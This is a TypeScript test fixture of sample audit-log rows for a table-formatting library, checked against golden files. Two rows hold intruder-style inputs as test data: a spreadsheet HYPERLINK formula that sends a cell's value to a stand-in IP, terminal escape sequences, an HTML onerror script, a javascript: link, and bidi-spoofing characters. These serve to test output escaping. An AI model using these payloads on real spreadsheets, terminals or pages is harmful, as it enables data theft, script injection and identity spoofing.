/**
 * The rows that every format is shown with: plain ones, long ones, ones in other scripts and ones made by an
 * intruder. The golden files print them all.
 */
import type { Column, Sheet } from '../../src/model/sheet.js';

export interface SampleRow {
  readonly when: string;
  readonly who: string;
  readonly what: string;
  readonly outcome: string;
  readonly target: string | null;
  readonly from: string | null;
  readonly mfa: boolean | null;
  readonly count: number;
  readonly id: string;
  readonly group: string;
}

const plain: SampleRow = {
  when: '2024-05-01 10:00:00',
  who: 'alice',
  what: 'DeleteBucket',
  outcome: 'success',
  target: 'payroll',
  from: '192.0.2.7 aws-cli/2.15.0',
  mfa: true,
  count: 1,
  id: '5a1f0c3e-0001-4000-8000-000000000001',
  group: 'Direct',
};

export const sampleRows: readonly SampleRow[] = [
  plain,
  {
    ...plain,
    when: '2024-05-01 10:00:05',
    who: 'Deploy/build@example.com',
    outcome: 'denied',
    from: null,
    mfa: null,
    count: 12345,
    id: '5a1f0c3e-0002-4000-8000-000000000002',
  },
  {
    ...plain,
    when: '2024-05-01 10:01:00',
    who: 'a-role-with-a-long-name/and-a-session-name-of-sixty-four-characters-at-most',
    what: 'PutBucketLifecycleConfiguration',
    outcome: 'failure',
    target: 'arn:aws:s3:::a-bucket/2024/05/01/a/deep/folder/with/an/object/whose-key-goes-on.json',
    from: '2001:db8::7 Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1 lang/python#3.12 cfg/retry-mode#legacy',
    count: -5,
    id: '5a1f0c3e-0003-4000-8000-000000000003',
  },
  {
    ...plain,
    when: '2024-05-01 10:02:00',
    who: '監査/山田太郎',
    target: 'ภาษาไทย-हिन्दी-école-🔥.txt',
    id: '5a1f0c3e-0004-4000-8000-000000000004',
    group: 'Related',
  },
  {
    ...plain,
    when: '2024-05-01 10:03:00',
    who: '=HYPERLINK("http://203.0.113.9/?x="&A1,"alice")',
    target: 'two\r\nlines\tand | a bar',
    from: '\x1b]0;owned\x07\x1b[2J\x1b[31m<img src=x onerror=alert(1)> `code` [click](javascript:alert(1)) @everyone',
    id: '5a1f0c3e-0005-4000-8000-000000000005',
    group: 'Related',
  },
  {
    ...plain,
    when: '2024-05-01 10:04:00',
    who: 'admin\u202enimda\u2066\u200b\ufeff\u{e0041}',
    target: 'C:\\new\\u{202e}, "quoted"; \x9b2J \ud800',
    from: '198.51.100.4  Account: 444455556666',
    id: '5a1f0c3e-0006-4000-8000-000000000006',
    group: 'Related',
  },
];

export const sampleColumns: readonly Column<SampleRow>[] = [
  { name: 'eventTime', title: 'When', cell: (row) => row.when, fit: 'keep', lead: true },
  {
    name: 'actor',
    title: 'Who',
    cell: (row) => row.who,
    tone: () => 'strong',
    fit: 'middle',
    lead: true,
  },
  { name: 'eventName', title: 'What', cell: (row) => row.what, fit: 'wrap', minWidth: 14, lead: true },
  {
    name: 'outcome',
    title: 'Outcome',
    cell: (row) => row.outcome,
    tone: (row) => (row.outcome === 'success' ? 'good' : row.outcome === 'denied' ? 'warn' : 'bad'),
    fit: 'keep',
    lead: true,
  },
  { name: 'resource', title: 'Resource', cell: (row) => row.target, fit: 'middle' },
  { name: 'origin', title: 'From', cell: (row) => row.from, fit: 'wrap', minWidth: 24 },
  { name: 'mfa', title: 'MFA', cell: (row) => row.mfa },
  { name: 'count', title: 'Count', cell: (row) => row.count, align: 'right', fit: 'keep' },
  { name: 'eventID', title: 'Event ID', cell: (row) => row.id, tone: () => 'muted', fit: 'keep' },
];

export const sampleSheet: Sheet<SampleRow> = {
  columns: sampleColumns,
  rows: sampleRows,
  json: ({ group: _, ...row }) => row,
  raw: (row) => new TextEncoder().encode(JSON.stringify(row)),
  group: (row) => row.group,
  empty: 'No event matched.',
};

/** A sheet of texts alone, for properties: one row for each list, one column for each place in it. */
export function sheetOf(
  rows: readonly (readonly string[])[],
  columns: readonly Partial<Column<readonly string[]>>[],
) {
  const sheet: Sheet<readonly string[]> = {
    columns: columns.map((column, i) => ({
      name: `c${i}`,
      title: `C${i}`,
      ...column,
      cell: (row: readonly string[]) => row[i] ?? null,
    })),
    rows,
    json: (row) => Object.fromEntries(row.map((text, i) => [`c${i}`, text])),
    empty: 'Nothing.',
  };
  return sheet;
}
